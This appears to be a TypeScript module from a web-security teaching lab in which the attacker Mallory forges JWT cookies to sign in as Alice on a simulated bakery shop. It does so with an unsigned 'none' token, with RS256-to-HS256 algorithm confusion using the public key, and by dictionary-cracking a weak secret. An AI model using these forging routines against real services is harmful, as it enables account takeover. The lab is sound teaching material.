import type { PageNode } from '../../browser/tab.ts';
import { isAlgorithm } from '../../jwt/algorithm.ts';
import { decodeBase64urlText } from '../../jwt/base64url.ts';
import { forgeUnsecuredToken } from '../../jwt/careless/forge-unsecured-token.ts';
import { signWithWeakSecret } from '../../jwt/careless/sign-with-weak-secret.ts';
import type { ClaimsSet } from '../../jwt/claims-set.ts';
import { decodeJwt } from '../../jwt/decode.ts';
import type { JwkSet } from '../../jwt/jwk/jwk.ts';
import { pemOf } from '../../jwt/jwk/make-key.ts';
import { secretFromText } from '../../jwt/jwk/secret-key.ts';
import { careful } from '../../server/shop/settings.ts';
import type { Exchange } from '../exchange.ts';
import type { Attack, SettingsChange } from './attack.ts';
import { all, shopWith } from './change-settings.ts';
import { shop, type Stage } from './stage.ts';

/** Words that everybody tries first; a bakery's word is among them. */
const dictionary = ['password', 'secret', '123456', 'bakery', 'butter', 'croissant', 'baguette'];

const inCookie = (careless: Partial<typeof careful>): SettingsChange =>
  shopWith({ remember: 'jwt-cookie', careless: { ...careful, ...careless } });

/** Mallory's own token, of nobody in particular, with the name of its cookie. */
async function ownToken(stage: Stage): Promise<{ name: string; token: string } | null> {
  await stage.as('mallory').visit(`${shop}/products/salt-bread`);
  await stage.sendForm('/cart');
  const cookie = stage.lab.browser.jar.all().find(({ name }) => name.endsWith('token'));
  return cookie === undefined ? null : { name: cookie.name, token: cookie.value };
}

/** Alice is signed in somewhere; Mallory writes a token in her name, and shows it. */
async function showForged(
  stage: Stage,
  forge: (token: string, claims: ClaimsSet) => Promise<string | null>,
): Promise<Exchange | null> {
  await stage.as('alice').signIn();
  const own = await ownToken(stage);
  const decoded = own === null ? null : decodeJwt(own.token);
  if (own === null || decoded?.ok !== true) return null;
  const forged = await forge(own.token, { ...decoded.claims, sub: 'alice', name: 'Alice', ver: 1 });
  if (forged === null) return null;
  await stage.putCookies([[own.name, forged]]);
  stage.decisive();
  return stage.openAccount();
}

/** A token that says of itself that nobody has signed it. */
export const unsignedJwt: Attack = {
  id: 'unsigned-jwt',
  hole: inCookie({ acceptNone: true }),
  needsScript: false,
  play: (stage) => showForged(stage, async (_token, claims) => forgeUnsecuredToken(claims)),
};

/** HMAC with the public key for its secret: whoever lets the token name the algorithm verifies just that. */
export const confusedAlgorithm: Attack = {
  id: 'confused-algorithm',
  hole: all(inCookie({ trustHeaderAlgorithm: true }), shopWith({ cookieTokenAlgorithm: 'RS256' })),
  needsScript: false,
  play: (stage) =>
    showForged(stage, async (token, claims) => {
      const decoded = decodeJwt(token);
      await stage.visit('https://api.shop.example/.well-known/jwks.json');
      const { keys } = JSON.parse(textIn(stage.page?.body ?? [])) as JwkSet;
      const kid = decoded.ok ? decoded.header.kid : undefined;
      const key = keys.find((one) => one.kid === kid);
      if (key === undefined) return null;
      const algorithm = isAlgorithm(key.alg) ? key.alg : 'RS256';
      const secret = secretFromText(await pemOf(key, algorithm, 'public'));
      return signed({ alg: 'HS256', typ: 'JWT', kid }, claims, secret);
    }),
};

/** The secret is a word: one token is enough to find it, without asking the shop a single time. */
export const weakSecret: Attack = {
  id: 'weak-secret',
  hole: inCookie({ weakSecret: true }),
  needsScript: false,
  play: (stage) =>
    showForged(stage, async (token, claims) => {
      for (const word of dictionary) {
        const key = secretFromText(word);
        if (await isSignedWith(token, key)) return signed(headerOf(token), claims, key);
      }
      // Whoever finds nothing shows what the favourite guess gives.
      return signed(headerOf(token), claims, secretFromText('croissant'));
    }),
};

type Key = ReturnType<typeof secretFromText>;

async function signed(header: object, claims: ClaimsSet, key: Key): Promise<string | null> {
  return signedText(JSON.stringify(header), JSON.stringify(claims), key);
}

async function signedText(header: string, payload: string, key: Key): Promise<string | null> {
  const made = await signWithWeakSecret(header, payload, { algorithm: 'HS256', key });
  return made.ok ? made.token : null;
}

async function isSignedWith(token: string, key: Key): Promise<boolean> {
  const [header = '', payload = ''] = token.split('.').map(decodeBase64urlText);
  return (await signedText(header ?? '', payload ?? '', key)) === token;
}

function headerOf(token: string): object {
  const decoded = decodeJwt(token);
  return decoded.ok ? decoded.header : {};
}

function textIn(nodes: readonly PageNode[]): string {
  return nodes.map((node) => (typeof node === 'string' ? node : textIn(node.children))).join('');
}
